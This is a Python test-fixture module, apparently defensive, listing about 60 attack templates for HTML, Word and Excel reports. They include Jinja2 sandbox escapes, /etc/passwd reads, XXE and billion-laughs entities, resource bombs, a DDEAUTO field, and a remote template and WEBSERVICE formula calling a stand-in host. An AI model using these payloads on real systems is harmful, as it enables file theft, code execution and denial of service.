"""The attack set on report templates (issue 10, shows 5): 60 by name, in HTML, Word and Excel.

`reach`: what an attack would show if it worked, one of the marks below. `bomb`: it would take all time, memory or disk.
"""

from collections.abc import Mapping
from dataclasses import dataclass

from template_files import excel, rebuilt, word

MARKS = ("class ", "object at 0x", "function", "module", "1234321", "root:", "BI-MAT", "posix", "builtin", "Undefined")
FIELD = '<w:r><w:instrText xml:space="preserve"> {} </w:instrText></w:r></w:p>'
OUTSIDE = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}" TargetMode="External"/></Relationships>'
)
RELS = "word/_rels/document.xml.rels"
ENTITY = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    "<!DOCTYPE a ["
    + '<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    + "]>"
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    ending: str
    body: bytes
    bomb: bool = False
    runs: bool = False  # what a plain Jinja2 would give away in process, without doing harm


def html(text: str, **more: bool) -> Attack:
    return Attack(ending="html", body=f"<p>{{{{ code }}}}</p>\n{text}\n".encode(), **more)


def docx(*text: str, **more: bool) -> Attack:
    return Attack(ending="docx", body=word(*text), **more)


def xlsx(text: str, **more: bool) -> Attack:
    return Attack(ending="xlsx", body=excel({"A2": text}), **more)


def broken_word(part: str, was: str, now: str) -> Attack:
    return Attack(ending="docx", body=rebuilt(word("{{ title }}"), replaced=[(part, was, now)]))


def with_part(name: str, content: bytes) -> Attack:
    return Attack(ending="docx", body=rebuilt(word("{{ title }}"), added={name: content}))


def sheet_with(part: str, was: str, now: str) -> Attack:
    return Attack(ending="xlsx", body=rebuilt(excel({"A2": "{{ title }}"}), replaced=[(part, was, now)]))


NESTED = "".join(f"{{% for x{n} in papers[0].parts[0].rows %}}" for n in range(8)) + "a" + "{% endfor %}" * 8
LONG = "".join(f"{{% for x{n} in papers[0].parts[0].rows %}}" for n in range(5)) + "a" * 4000 + "{% endfor %}" * 5

ATTACKS: Mapping[str, Attack] = {
    # out of the sandbox by attributes
    "class of a text": html("{{ ''.__class__.__mro__ }}", runs=True),
    "class by brackets": html("{{ ''['__class__'] }}", runs=True),
    "class by a filter": html("{{ ''|attr('__class__') }}", runs=True),
    "class by a filter put together": html("{{ ''|attr('__cla' ~ 'ss__') }}", runs=True),
    "subclasses of object": docx("{{ ''.__class__.__base__.__subclasses__() }}", runs=True),
    "globals of a helper": html("{{ cycler.__init__.__globals__ }}", runs=True),
    "globals of a macro": docx("{% macro m() %}{% endmacro %}{{ m.__globals__ or m }}", runs=True),
    "globals of the loop": html("{% for p in papers %}{{ loop.__init__.__globals__ }}{% endfor %}", runs=True),
    "the template itself": html("{{ self }}", runs=True),
    "the template's context": html("{{ self._TemplateReference__context }}", runs=True),
    "an attribute in a workbook": xlsx("{{ title.__class__ }}", runs=True),
    "an attribute in brackets in a workbook": xlsx("{{ title['__class__'] }}", runs=True),
    "a hidden name of ours": html("{{ papers.__len__ }}", runs=True),
    "a method of a list": docx("{{ papers.append }}", runs=True),
    "a method of a text": html("{{ title.format }}", runs=True),
    # calls
    "a method called": html("{{ title.upper.__self__.__class__ }}", runs=True),
    "a program started": html("{{ cycler.__init__.__globals__.os.name }}", runs=True),
    "a file read": html(
        "{{ lipsum.__globals__.__builtins__.__import__('linecache').getline('/etc/passwd', 1) }}", runs=True
    ),
    "a file read in Word": docx(
        "{{ lipsum.__globals__.__builtins__.__import__('linecache').getline('/etc/passwd', 1) }}", runs=True
    ),
    "a format string": html("{{ '{0.__class__}'.format(title) }}", runs=True),
    "a list changed": html("{{ papers.append(papers) }}{{ papers.__class__ }}", runs=True),
    "a call in a condition": html("{% if title.upper() %}{{ title.__class__ }}{% endif %}", runs=True),
    "a call in a workbook": xlsx("{{ title.upper.__class__ }}", runs=True),
    "a call behind a row": Attack(
        ending="xlsx",
        body=excel({"A2": "{%tr for x in papers.__class__.__mro__ %}", "A3": "{{ x }}", "A4": "{%tr endfor %}"}),
    ),
    "a test with side effects": html("{{ title is callable }}{{ title.__class__ }}", runs=True),
    # other words of Jinja2
    "a file included": html("{% include '/etc/passwd' %}"),
    "a file included without fail": docx("{% include ['/etc/passwd', '../../secret'] ignore missing %}"),
    "another template extended": html("{% extends 'base.html' %}"),
    "macros imported": html("{% import 'os' as os %}{{ os }}"),
    "escaping switched off": html("{% autoescape false %}{{ 1111*1111 }}{% endautoescape %}", runs=True),
    "a variable set": html("{% set x = 1111*1111 %}{{ x }}", runs=True),
    "arithmetic in a placeholder": html("{{ 1111*1111 }}", runs=True),
    "arithmetic in a workbook": xlsx("{{ 1111*1111 }}", runs=True),
    "a filter block": docx("{% filter upper %}{{ title.__class__ }}{% endfilter %}", runs=True),
    "raw text around": html("{% raw %}{{ title }}{% endraw %}{{ 1111*1111 }}", runs=True),
    # time, memory, disk
    "an endless loop": html("{% for x in range(10**12) %}{% endfor %}", bomb=True),
    "a loop in a loop in a loop": html(NESTED, bomb=True),
    "a loop in a loop in Word": docx(NESTED, bomb=True),
    "a number as long as a book": html("{{ 10**10000000 }}", bomb=True),
    "a text of a gigabyte": html("{{ 'a' * 1000000000 }}", bomb=True),
    "a gigabyte by loops": html(LONG, bomb=True),
    "a gigabyte by loops in Excel": xlsx(LONG, bomb=True),
    "brackets without end": html("{{ " + "(" * 5000 + "title" + ")" * 5000 + " }}", bomb=True),
    "a table as wide as a street": html('<table><tr><td colspan="900000000">a</td></tr></table>', bomb=True),
    "a zip bomb in Word": with_part("word/media/image9.png", b" " * (60 * 1024 * 1024)),
    "an XML bomb in Word": with_part("word/header9.xml", b"<a>" * 3_000_000),
    # Word and Excel
    "an entity in Word": broken_word("word/document.xml", "<w:document", f"{ENTITY}<w:document"),
    "a billion laughs in Word": broken_word("word/document.xml", "<w:document", f"{LAUGHS}<w:document"),
    "an entity in Excel": sheet_with("xl/workbook.xml", "<workbook", f"{ENTITY}<workbook"),
    "a macro in Word": with_part("word/vbaProject.bin", b"x"),
    "a template elsewhere": broken_word(
        RELS, "</Relationships>", OUTSIDE.format("attachedTemplate", "http://vi-du.vn/a.dotm")
    ),
    "a picture elsewhere": broken_word(RELS, "</Relationships>", OUTSIDE.format("image", "http://vi-du.vn/a.png")),
    "a field that includes a file": broken_word(
        "word/document.xml", "</w:p>", FIELD.format("INCLUDETEXT &quot;/etc/passwd&quot;")
    ),
    "a field that starts a program": broken_word("word/document.xml", "</w:p>", FIELD.format("DDEAUTO cmd")),
    "a formula that fetches": Attack(
        ending="xlsx", body=excel({"A2": "{{ title }}"}, formulas={"B2": '=WEBSERVICE("http://vi-du.vn/")'})
    ),
    # what a page fetches or runs
    "a picture from the network": html('<img src="http://127.0.0.1:9/a.png">'),
    "a file of this machine": html('<object data="file:///etc/passwd"></object>'),
    "a style from the network": html("<style>@import url(http://127.0.0.1:9/a.css);</style>"),
    "a script": html("<script>document.title = 'x'</script>"),
    "a placeholder in a style": html('<p style="background: {{ title }}">a</p>'),
}
